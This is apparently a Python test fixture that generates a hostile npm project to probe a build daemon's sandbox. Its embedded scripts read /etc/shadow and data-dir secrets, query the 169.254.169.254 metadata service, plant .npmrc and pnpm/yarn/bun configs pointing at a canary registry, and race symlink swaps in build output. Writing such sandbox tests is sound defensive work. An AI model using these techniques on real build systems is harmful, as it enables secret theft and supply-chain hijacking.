"""The hostile-project corpus: one generated project that attacks from every place generated code runs.

From its postinstall, its build script, its `eslint.config.mjs` (loaded by the lint check) and the page's own
JavaScript (run by the render check) it tries what attackers tried against the daemon: reads of the data dir and
of root-only files, requests to a loopback service, to the daemon's API and to the metadata address, config
planted for the next networked install (`.npmrc`, `.pnpmfile.cjs`, `.yarnrc.yml`, `bunfig.toml`, the `pnpm` and
`packageManager` fields), and links swapped into the build output at every depth while the daemon reads it.

`@PORT@` is the canary service's port, `@DPORT@` the daemon's, `@DATA@` the data dir, `@OUTSIDE@` a root-only
file outside it. What each attack managed is written next to it (`reports/`, copied into the output), so a
failing test can say which door opened.
"""

from __future__ import annotations

import json

ESLINT = "9.39.4"

ATTACK_JS = r"""
const fs = require('fs'), path = require('path'), http = require('http');
const stage = process.argv[2] || 'unknown';
const CANARY = 'http://127.0.0.1:@PORT@';
const DATA = '@DATA@', OUTSIDE = '@OUTSIDE@';
const report = [];

function tryRead(p) {
  try { report.push(`read ${p}: ${fs.readFileSync(p, 'utf8').slice(0, 120)}`); }
  catch (e) { report.push(`read ${p}: ${e.code}`); }
}
function get(url) {
  return new Promise((resolve) => {
    const req = http.get(url, { timeout: 1500 }, (res) => {
      let body = '';
      res.on('data', (d) => { body += d; });
      res.on('end', () => resolve(`get ${url}: ${res.statusCode} ${body.slice(0, 120)}`));
    });
    req.on('error', (e) => resolve(`get ${url}: ${e.code}`));
    req.on('timeout', () => { req.destroy(); resolve(`get ${url}: timeout`); });
  });
}
async function probe() {
  tryRead(DATA + '/canary.txt');
  tryRead(OUTSIDE);
  tryRead('/etc/shadow');
  for (const u of [`${CANARY}/${stage}`, 'http://169.254.169.254/latest/meta-data/',
                   'http://127.0.0.1:@DPORT@/healthz']) {
    report.push(await get(u));
  }
}
function tryWrite(p, text) {
  try { fs.mkdirSync(path.dirname(p), { recursive: true }); fs.writeFileSync(p, text); report.push(`wrote ${p}`); }
  catch (e) { report.push(`write ${p}: ${e.code}`); }
}
function plantConfig() {
  const rc = `registry=${CANARY}/\nproxy=${CANARY}/\nhttps-proxy=${CANARY}/\nstrict-ssl=false\n`;
  for (const d of ['.', 'src', 'node_modules/.cache', process.env.HOME || '/nonexistent']) {
    tryWrite(path.join(d, '.npmrc'), rc);
  }
  const hook = (tag) => `require('http').get('${CANARY}/${tag}').on('error', () => {});\n`;
  tryWrite('.pnpmfile.cjs', hook('pnpmfile') + 'module.exports = { hooks: {} };\n');
  tryWrite('src/.pnpmfile.cjs', hook('pnpmfile-src'));
  tryWrite('.yarnrc.yml', `npmRegistryServer: "${CANARY}"\n`);
  tryWrite('bunfig.toml', `[install]\nregistry = "${CANARY}"\n`);
  try {
    const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));
    pkg.packageManager = 'pnpm@9.0.0';
    pkg.pnpm = { overrides: { 'is-number': `${CANARY}/is-number.tgz` } };
    pkg.publishConfig = { registry: CANARY };
    tryWrite('package.json', JSON.stringify(pkg, null, 2));
  } catch (e) { report.push(`package.json: ${e.code}`); }
}
(async () => {
  await probe();
  if (stage === 'postinstall') plantConfig();
  if (stage === 'build') {
    fs.mkdirSync('dist/sub', { recursive: true });
    fs.mkdirSync('dist/many', { recursive: true });
    fs.writeFileSync('dist/index.html', fs.readFileSync('index.html'));
    fs.writeFileSync('dist/a.txt', 'a plain file\n');
    fs.writeFileSync('dist/b.txt', 'another plain file\n');
    fs.writeFileSync('dist/sub/c.txt', 'in a sub-directory\n');
    // Enough files that the daemon's own reading of dist/ takes long enough to race.
    for (let i = 0; i < 2000; i++) fs.writeFileSync(`dist/many/f${i}.txt`, 'x'.repeat(200));
    plantConfig();
  }
  tryWrite(`reports/${stage}.txt`, report.join('\n') + '\n');
  if (stage === 'build') {
    fs.mkdirSync('dist/reports', { recursive: true });
    for (const f of fs.readdirSync('reports')) fs.copyFileSync(`reports/${f}`, `dist/reports/${f}`);
  }
})();
"""

# Loaded by `eslint` in the lint check: generated code running while the daemon handles the build's results.
ESLINT_CONFIG = r"""
import { createRequire } from 'node:module';
import fs from 'node:fs';
const require = createRequire(import.meta.url);
const DATA = '@DATA@', OUTSIDE = '@OUTSIDE@';
const report = [];
try { report.push(fs.readFileSync(DATA + '/canary.txt', 'utf8')); } catch (e) { report.push(e.code); }
try { fs.writeFileSync('.npmrc', 'registry=http://127.0.0.1:@PORT@/\n'); report.push('wrote .npmrc'); }
catch (e) { report.push('.npmrc ' + e.code); }
try { fs.writeFileSync('src/main.js', 'export const planted = 1;\n'); report.push('wrote src'); }
catch (e) { report.push('src ' + e.code); }
const until = Date.now() + @SWAP_SECONDS@ * 1000;
const targets = { 'index.html': DATA + '/canary.txt', 'a.txt': OUTSIDE, 'sub': DATA, 'b.txt': '/etc/shadow' };
let swaps = 0;
while (Date.now() < until) {
  for (const [name, target] of Object.entries(targets)) {
    try {
      fs.rmSync('dist/' + name, { recursive: true, force: true });
      fs.symlinkSync(target, 'dist/' + name);
      swaps++;
    }
    catch (e) { /* the output is not there to swap: the check's view */ }
  }
  await new Promise((r) => setTimeout(r, 3));
}
try { fs.writeFileSync('reports/lint.txt', report.join('\n') + `\nswaps ${swaps}\n`); } catch (e) { /* read-only */ }
export default [{ files: ['**/*.js'], rules: {} }];
"""

# The page's own JavaScript, run by the render check's browser.
PAGE = """<!doctype html><html><head><title>hostile</title></head><body>
<h1>a hostile page</h1>
<script>
const C = 'http://127.0.0.1:@PORT@';
for (const u of [C + '/iframe', 'http://127.0.0.1:@DPORT@/healthz', 'http://localhost:@DPORT@/schema',
                 'file:///etc/hostname', 'http://169.254.169.254/latest/meta-data/']) {
  const f = document.createElement('iframe');
  f.src = u; f.width = 1200; f.height = 300;
  document.body.appendChild(f);
}
fetch(C + '/fetch').catch(() => {});
new Image().src = C + '/img';
try { new WebSocket('ws://127.0.0.1:@PORT@/ws'); } catch (e) {}
navigator.sendBeacon && navigator.sendBeacon(C + '/beacon', 'x');
</script></body></html>
"""

# The generator: prompts choose mallory's hostile project (first build, then a rebuild whose dependencies change,
# so its install has the network and would obey planted config) or a plain neighbour project with a dependency.
GENERATOR_BODY = '''
import json as _json
P = @PARAMS@
p = req["prompt"]
def sub(text):
    for k, v in P.items():
        text = text.replace("@" + k + "@", str(v))
    return text
if p.startswith("hostile"):
    files = {"attack.cjs": sub(P["ATTACK"]), "eslint.config.mjs": sub(P["ESLINT_CONFIG"]),
             "index.html": sub(P["PAGE"]), "src/main.js": "export const x = 1;\\n"}
    build = "node attack.cjs build"
    # A dependency no build of this data dir fetched yet: the rebuild's install must ask a registry.
    deps = {"is-odd": "3.0.1"} if "again" in p else None
    extra = {"devDependencies": {"eslint": P["ESLINT"]}, "scripts": {"postinstall": "node attack.cjs postinstall"}}
else:
    files = {"index.html": "<h1>" + p + "</h1>", "main.js": "module.exports = require('is-number')(7);\\n"}
    build = "mkdir -p dist && cp index.html main.js dist/"
    deps = {"is-number": "7.0.0"}
'''


def generator_body(port: int, daemon_port: int, data: str, outside: str, swap_seconds: int) -> str:
    """The generator script's body with the corpus and this run's addresses filled in."""
    params = {"PORT": port, "DPORT": daemon_port, "DATA": data, "OUTSIDE": outside, "SWAP_SECONDS": swap_seconds,
              "ESLINT": ESLINT, "ATTACK": ATTACK_JS, "ESLINT_CONFIG": ESLINT_CONFIG, "PAGE": PAGE}
    return GENERATOR_BODY.replace("@PARAMS@", json.dumps(params))
